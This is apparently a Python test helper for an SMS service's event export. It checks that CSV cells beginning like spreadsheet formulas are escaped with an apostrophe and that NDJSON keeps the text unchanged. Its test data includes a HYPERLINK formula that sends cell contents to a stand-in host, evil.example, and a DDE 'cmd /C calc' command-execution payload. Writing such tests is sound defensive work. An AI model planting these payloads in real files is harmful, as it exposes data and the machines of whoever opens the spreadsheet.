"""Outside text that a spreadsheet would run as a formula, sent through the real server, and
what the event export makes of it: CSV cells behind one apostrophe, NDJSON as sent.

Shared by the API's and the command's export tests, which read the same history.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json

import httpx

NUMBER = "+33612345678"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
MESSAGE_ID = "-2+3+cmd|' /C calc'!A0"
QUOTED = "'=1+1"
"""Already behind an apostrophe: it gets one more, so that dropping one always gives the text."""
SPACED = "  @SUM(1+1)"
"""A spreadsheet told to trim spaces reads a formula here too."""
PLEA = "ne m'envoyez plus de SMS"
ACTOR = "@dpo"
REASON = "-not an opt-out"

_MESSAGES = ((MESSAGE_ID, FORMULA), ("m-2", QUOTED), ("m-3", SPACED), ("m-4", PLEA))
_TEXTS = {FORMULA: "'" + FORMULA, QUOTED: "''=1+1", SPACED: "'" + SPACED, PLEA: PLEA}


def send_hostile_history(http: httpx.Client, api_key: str, inbound_token: str) -> None:
    """Four SMS through the generic endpoint (the first with a formula as its provider's
    message id, the last queued as a possible opt-out), then that item dismissed through
    the API with a formula-like actor and reason."""
    inbound = f"/inbound/{inbound_token}/generic"
    for message_id, text in _MESSAGES:
        sent = http.post(inbound, json={"from": NUMBER, "text": text, "id": message_id})
        assert sent.status_code == 200, sent.text
    pending = http.get("/v1/review/list", params={"apiKey": api_key}).json()["data"]
    assert [item["text"] for item in pending] == [PLEA]
    decided = http.post(
        "/v1/review/dismiss",
        json={"apiKey": api_key, "id": pending[0]["id"], "actor": ACTOR, "reason": REASON},
    )
    assert decided.status_code == 200, decided.text


def check_csv(exported: str) -> None:
    """Every outside cell that starts a formula has one apostrophe in front; the number keeps
    its ``+``; a text without its apostrophe gives the digest."""
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert {row["phoneNumber"] for row in rows} == {NUMBER}
    texts = [row["text"] for row in rows if row["text"]]
    assert texts == [*_TEXTS.values(), PLEA]  # the dismissal carries the text it decided
    first = rows[0]
    assert first["providerMessageId"] == "'" + MESSAGE_ID
    assert first["provider"] == "generic" and first["type"] == "reply"
    sent = {cell: text for text, cell in _TEXTS.items()}
    for row in rows:
        if row["text"]:
            assert _digest(sent[row["text"]]) == row["textDigest"]
    decision = rows[-1]
    assert (decision["actor"], decision["reason"]) == ("'" + ACTOR, "'" + REASON)


def check_ndjson(exported: str) -> None:
    """NDJSON carries every text as stored, byte for byte, and each gives its digest."""
    records = [json.loads(line) for line in exported.splitlines()]
    assert {record["phoneNumber"] for record in records} == {NUMBER}
    texts = [record["text"] for record in records if record["text"]]
    assert texts == [*_TEXTS, PLEA]
    assert records[0]["providerMessageId"] == MESSAGE_ID
    for record in records:
        if record["text"]:
            assert _digest(record["text"]) == record["textDigest"]
    assert (records[-1]["actor"], records[-1]["reason"]) == (ACTOR, REASON)


def _digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()
